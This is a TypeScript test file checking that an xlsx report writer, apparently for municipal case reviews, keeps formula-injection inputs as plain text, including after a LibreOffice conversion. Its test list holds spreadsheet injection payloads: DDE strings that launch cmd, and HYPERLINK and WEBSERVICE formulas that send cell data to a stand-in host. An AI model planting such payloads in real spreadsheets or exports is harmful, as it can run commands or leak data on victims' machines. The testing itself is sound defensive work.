import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';

import { writeWorkbook } from '#core/report/write-workbook.ts';
import type { CommitteeWords } from '#shared/domain/report/committee-words.ts';
import type { ReportSource } from '#shared/domain/report/source.ts';
import type { Workbook } from '#shared/domain/report/workbook.ts';

import { reportSource } from '../../unit/report/report-fixture.ts';
import { officeProfile } from '../../support/office-profile.ts';
import { openWorkbook } from '../../support/opened-workbook.ts';
import { otherWorkbooks, reportsOf } from './every-workbook.ts';
import { officeMissing, openpyxlMissing, readBack } from './read-back.ts';

/** What a person could type into a field, or a file could hold, to have a spreadsheet run it. */
const hostile = [
  '=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://x.example/"&A1,"klik")',
  '=WEBSERVICE("http://x.example/")',
  '=DDE("cmd";"/c calc";"x")',
  '+4511111111',
  '-1+2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '\u200B=1+1',
  '\u200E=1+1',
  '\uFEFF=1+1',
  '"=1+1',
  "'=1+1",
  ';=1+1',
  '=1+1";=2+2;"',
  '</t></si><f>1+1</f>',
];

/** A text that a spreadsheet takes for a formula when it is typed or read from csv. */
const looksLike = (text: string): boolean => /^[=+\-@]/.test(text.normalize('NFKC').replace(/^[\s\p{Cf}]+/u, ''));

/** The hostile texts in turn, beginning at one of them. */
function inTurn(start: number): () => string {
  let at = start;
  return () => hostile[at++ % hostile.length]!;
}

/** The round with hostile texts wherever a file or a person can put a text. */
function poisoned(next: () => string): ReportSource {
  const source = reportSource({ targeted: 2, strata: [{ name: next(), size: 60, drawn: 12 }] });
  const ids = new Map(source.cases.map(({ drawn }) => [drawn.caseId, `${next()}${drawn.caseId}`]));
  const caseId = (id: string): string => ids.get(id) ?? id;
  const words: CommitteeWords = { conclusion: next(), works: [next()], improve: [next()], recommendation: next() };
  return {
    ...source,
    profile: { municipality: next(), department: next(), reviewer: next() },
    round: { name: next(), example: false },
    record: {
      ...source.record,
      seed: next(),
      cases: source.record.cases.map((drawn) => ({ ...drawn, caseId: caseId(drawn.caseId) })),
    },
    imported: source.imported === null ? null : { ...source.imported, fileName: next() },
    words,
    cases: source.cases.map((row) => ({
      ...row,
      drawn: { ...row.drawn, caseId: caseId(row.drawn.caseId) },
      case: {
        ...row.case,
        id: caseId(row.case.id),
        values: {
          case_id: caseId(row.case.id),
          child_name: next(),
          caseworker: next(),
          team: next(),
          cpr: next(),
        },
      },
    })),
    reviews: source.reviews.map((review) => ({
      ...review,
      caseId: caseId(review.caseId),
      answers: review.answers.map((answer) => ({ ...answer, note: next(), evidence: next() })),
    })),
    actions: source.actions.map((action) => ({
      ...action,
      caseId: action.caseId === null ? null : caseId(action.caseId),
      text: next(),
      owner: next(),
    })),
  };
}

describe('a text that begins like a formula', () => {
  it.each([0, 7, 15])(
    'stays text in every cell of every workbook, from the text at %i on',
    async (start) => {
      const next = inTurn(start);
      let met = 0;
      for (const [kind, workbook] of [...reportsOf(poisoned(next)), ...otherWorkbooks(next())]) {
        const { sheets, parts } = await openWorkbook(await writeWorkbook(workbook));
        const cells = sheets.flatMap((sheet) => sheet.cells.map((cell) => ({ ...cell, sheet: sheet.name })));
        expect(
          cells.filter(({ formula }) => formula !== null && !/^(COUNTIFS|SUM|IF)\(/.test(formula)),
          kind,
        ).toEqual([]);
        const likeFormula = cells.filter(
          ({ kind: is, formula, text }) => is === 'text' && formula === null && looksLike(text),
        );
        expect(
          likeFormula.filter(({ style }) => !style.quoted),
          kind,
        ).toEqual([]);
        met += likeFormula.length;
        expect([...parts.keys()].filter((part) => /externalLink|hyperlink|vba|connection/i.test(part))).toEqual([]);
        expect([...parts.values()].filter((part) => part.includes('TargetMode="External"'))).toEqual([]);
      }
      expect(met).toBeGreaterThan(100);
    },
    60_000,
  );
});

const oneColumn: Workbook = {
  title: 'Prøve',
  subject: 'Prøve',
  classification: 'Prøve',
  footer: 'Prøve',
  created: '2026-01-20T09:30:00.000Z',
  sheets: [
    {
      name: 'Tekster',
      widths: [40],
      orientation: 'portrait',
      rows: [
        { isHeader: true, cells: [{ value: 'Tekst', style: 'header' }] },
        ...hostile.map((value) => ({ cells: [{ value, style: 'cell-wrap' as const }] })),
      ],
    },
  ],
};
/** Line ends are written as Excel has them. */
const stored = hostile.map((text) => text.replaceAll('\r', '\n'));

const noPython = openpyxlMissing();
if (noPython !== null) console.warn(`reading with another program is skipped: ${noPython}`);

it.skipIf(noPython !== null)('is text to an independent reader', async () => {
  const [sheet] = readBack(await writeWorkbook(oneColumn)).sheets;
  expect(sheet!.rows.slice(1).map(([value]) => value)).toEqual(stored);
  expect(new Set(sheet!.types.flat())).toEqual(new Set(['s']));
});

const noOffice = officeMissing();
if (noOffice !== null) console.warn(`re-saving is skipped: ${noOffice}`);

it.skipIf(noOffice !== null || noPython !== null)(
  'survives LibreOffice: saved as csv and as a workbook again, no cell is a formula',
  async () => {
    const folder = mkdtempSync(join(tmpdir(), 'tilsyn-injection-'));
    try {
      writeFileSync(join(folder, 'tekster.xlsx'), await writeWorkbook(oneColumn));
      const convert = (format: string, file: string, out: string) =>
        execFileSync('soffice', [officeProfile(), '--headless', '--convert-to', format, '--outdir', out, file], {
          cwd: folder,
          stdio: 'ignore',
        });
      convert('csv:Text - txt - csv (StarCalc):59,34,76,1', 'tekster.xlsx', 'csv');
      const [, ...lines] = Papa.parse<string[]>(readFileSync(join(folder, 'csv/tekster.csv'), 'utf8')).data;
      expect(lines.map(([text]) => text).slice(0, stored.length)).toEqual(stored);
      convert('xlsx', 'tekster.xlsx', 'again');
      expect(readdirSync(join(folder, 'again'))).toEqual(['tekster.xlsx']);
      const [again] = readBack(readFileSync(join(folder, 'again/tekster.xlsx'))).sheets;
      expect(again!.rows.slice(1).map(([value]) => value)).toEqual(stored);
      expect(new Set(again!.types.flat())).toEqual(new Set(['s']));
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  },
  120_000,
);
